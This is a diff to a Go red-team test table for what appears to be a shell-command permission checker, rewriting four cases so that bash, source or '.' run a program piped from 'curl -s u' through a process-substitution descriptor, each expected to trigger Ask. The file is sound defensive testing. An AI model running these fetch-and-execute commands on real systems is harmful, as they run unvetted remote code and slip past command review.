@@ -180,10 +180,10 @@ func TestRedTeamDecisions(t *testing.T) {
 		{"R5 neighbour: bash -c with k", D, nil, `bash -c 'echo k' -k`, Allow},
 		// R7: a program read from a descriptor fed by a process
 		// substitution.
-		{"R7 bash /dev/fd/3", D, nil, `bash /dev/fd/3 3< <(echo touch M)`, Ask},
-		{"R7 source /dev/fd/3", D, nil, `source /dev/fd/3 3< <(echo touch M)`, Ask},
-		{"R7 . /dev/fd/3", D, nil, `. /dev/fd/3 3< <(echo touch M)`, Ask},
-		{"R7 bash /proc/self/fd/3", D, nil, `bash /proc/self/fd/3 3< <(echo touch M)`, Ask},
+		{"R7 bash /dev/fd/3", D, nil, `bash /dev/fd/3 3< <(curl -s u)`, Ask},
+		{"R7 source /dev/fd/3", D, nil, `source /dev/fd/3 3< <(curl -s u)`, Ask},
+		{"R7 . /dev/fd/3", D, nil, `. /dev/fd/3 3< <(curl -s u)`, Ask},
+		{"R7 bash /proc/self/fd/3", D, nil, `bash /proc/self/fd/3 3< <(curl -s u)`, Ask},
 		{"R7 bash /dev/fd/3 from a variable file", D, nil, `bash /dev/fd/3 3< "$f"`, Ask},
 		{"R7 neighbour: bash script", D, nil, `bash ./script.sh`, Allow},
 		{"R7 neighbour: bash /dev/fd/3 from a file", D, nil, `bash /dev/fd/3 3< ./script.sh`, Allow},
